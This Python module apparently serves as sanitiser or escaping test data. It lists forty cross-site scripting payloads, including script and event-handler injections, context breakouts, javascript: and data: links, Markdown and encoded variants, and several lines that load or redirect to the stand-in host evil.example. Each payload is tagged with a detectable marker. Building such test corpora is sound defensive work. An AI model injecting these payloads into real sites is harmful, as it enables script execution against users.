"""Forty texts that would run, load or steer something if any page took them for markup."""

from __future__ import annotations

TEMPLATES = [
    "<script>XSS()</script>",
    "<ScRiPt >XSS()</sCrIpT >",
    '"><script>XSS()</script>',
    "'><img src=x onerror=XSS()>",
    '"><img src=x onerror="XSS()">',
    "<img/src=x/onerror=XSS()>",
    "<svg onload=XSS()>",
    "<svg><script>XSS()</script></svg>",
    "<svg><animate onbegin=XSS() attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=XSS()>#x"/></svg>',
    '<iframe src="javascript:parent.XSS()"></iframe>',
    '<iframe srcdoc="<script>parent.XSS()</script>"></iframe>',
    "<body onload=XSS()>",
    "<input autofocus onfocus=XSS()>",
    "<details open ontoggle=XSS()>",
    "<video><source onerror=XSS()></video>",
    "<audio src=x onerror=XSS()>",
    '<object data="javascript:XSS()"></object>',
    '<embed src="//evil.example/x.svg">',
    '<form action="//evil.example/"><button formaction="javascript:XSS()">',
    '<math><a xlink:href="javascript:XSS()">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<style>@import "//evil.example/x.css";</style>',
    '<div style="background:url(//evil.example/x.png)">',
    '<a href="javascript:XSS()">',
    '<a href=" &#106;avascript&colon;XSS()">',
    "</title><script>XSS()</script>",
    "</textarea><img src=x onerror=XSS()>",
    "--><!--><img src=x onerror=XSS()>",
    '<noscript><p title="</noscript><img src=x onerror=XSS()>">',
    '<div hx-get="/inbox/" hx-trigger=load hx-on::load="XSS()">',
    "{{ 7|add:7 }}{% now 'Y' %}${XSS()}&lt;script&gt;XSS()&lt;/script&gt;",
    "[here](javascript:XSS())",
    '![x](x"onerror="XSS())',
    "[here](data:text/html,<script>XSS()</script>)",
    "<javascript:XSS()> [a]: javascript:XSS() [a]",
    '`"><img src=x onerror=XSS()>`',
    "＜script＞XSS()＜/script＞+ADw-script+AD4-XSS()+ADw-/script+AD4-",
]


def mark(number: int) -> str:
    """Return what stands on a page that shows the payload `number`."""
    return f"zq{number:02}zq"


PAYLOADS = [f"{template}{mark(number)}" for number, template in enumerate(TEMPLATES)]
ALL = "\n\n".join(PAYLOADS)
"""One long text with every payload in a paragraph of its own."""
